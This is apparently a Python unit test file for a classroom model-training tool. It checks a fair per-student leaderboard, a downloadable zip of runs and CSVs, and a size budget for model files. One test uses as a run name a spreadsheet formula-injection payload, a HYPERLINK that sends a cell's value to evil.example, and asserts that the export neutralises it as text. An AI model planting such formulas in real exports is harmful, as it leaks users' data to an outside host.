"""The lesson's results: a fair leaderboard (each student's best run), and the zip the teacher downloads, whose
`leaderboard.csv` is the table on screen and whose CSVs a spreadsheet opens as plain text."""

from __future__ import annotations

import csv
import io
import zipfile

from core.classroom.board import best_per_student, board_frame, leaderboard
from core.classroom.closing import class_archive
from core.evaluate.spreadsheet import csv_text
from core.store.runs import list_runs
from tests.unit.test_classroom import lesson, store_run  # noqa: F401 (lesson is a fixture)


def test_each_student_appears_once_with_their_best_run_and_ties_share_a_rank(lesson):  # noqa: F811
    root, _, room, (ada, bob, cy) = lesson
    for accuracy in (0.95, 0.6, 0.7, 0.8, 0.9):  # Ada's fifth attempt must not push Bob off the board
        store_run(root, ada.workspace_id, accuracy)
    store_run(root, bob.workspace_id, 0.9, seconds=0.5)
    store_run(root, cy.workspace_id, 0.5)
    every = leaderboard(room, list_runs(root))
    assert len(every) == 7 and [row.nickname for row in every].count("Ada") == 5
    best = best_per_student(every)
    assert [(row.rank, row.nickname, row.test_accuracy) for row in best] == [
        (1, "Ada", 0.95), (2, "Bob", 0.9), (3, "Cy", 0.5)]
    store_run(root, cy.workspace_id, 0.9, seconds=0.5)  # Cy ties Bob: the same rank
    best = best_per_student(leaderboard(room, list_runs(root)))
    assert sorted((row.rank, row.nickname) for row in best) == [(1, "Ada"), (2, "Bob"), (2, "Cy")]
    assert all(row.epochs == 1 for row in best)  # the stored record trained one epoch
    assert list(board_frame(best).columns) == ["rank", "student", "test accuracy", "model", "parameters", "epochs",
                                               "training s", "run", "shared"]


def test_the_zip_holds_every_run_and_a_leaderboard_csv_that_is_the_table_with_formulas_made_text(lesson):  # noqa: F811
    root, _, room, (ada, bob, _) = lesson
    store_run(root, ada.workspace_id, 0.7, name='=HYPERLINK("http://evil.example/?x="&A1,"results")')
    store_run(root, ada.workspace_id, 0.9, name="@SUM(1+1)")
    bob_run = store_run(root, bob.workspace_id, 0.8)
    archive = zipfile.ZipFile(io.BytesIO(class_archive(room, root)))
    names = archive.namelist()
    assert sum(name.endswith("/model.keras") for name in names) == 3 and f"Bob/{bob_run}/meta.json" in names
    board = archive.read("leaderboard.csv").decode()
    assert board == csv_text(board_frame(best_per_student(leaderboard(room, list_runs(root)))))  # the table
    rows = list(csv.DictReader(io.StringIO(board)))
    assert [(row["rank"], row["student"], row["test accuracy"], row["run"]) for row in rows] == [
        ("1", "Ada", "90.0%", "'@SUM(1+1)"), ("2", "Bob", "80.0%", "run")]
    every = list(csv.DictReader(io.StringIO(archive.read("runs.csv").decode())))
    assert len(every) == 3 and {row["batch_size"] for row in every} == {"32"}
    assert any(row["run"].startswith("'=HYPERLINK") for row in every)  # a spreadsheet shows it, never runs it
    assert not any(cell.startswith(("=", "@", "+")) for row in every for cell in row.values() if cell)


def test_a_zip_over_its_budget_leaves_models_out_best_runs_first_and_says_which(lesson):  # noqa: F811
    root, _, room, (ada, bob, _) = lesson
    worse = store_run(root, ada.workspace_id, 0.5)
    best = store_run(root, ada.workspace_id, 0.9)
    bobs = store_run(root, bob.workspace_id, 0.8)
    one_run = sum(path.stat().st_size for path in (root / "runs" / best).iterdir())
    meta = (root / "runs" / worse / "meta.json").stat().st_size
    archive = zipfile.ZipFile(io.BytesIO(class_archive(room, root, max_bytes=2 * one_run + meta)))
    names = archive.namelist()
    assert {f"Ada/{best}/model.keras", f"Bob/{bobs}/model.keras"} <= set(names)  # each student's best is in
    assert f"Ada/{worse}/model.keras" not in names and "leaderboard.csv" in names
    assert f"Ada/{worse}/meta.json" in names  # a file left out does not use up the budget of those after it
    assert f"Ada/{worse}/model.keras" in archive.read("models-left-out.txt").decode()
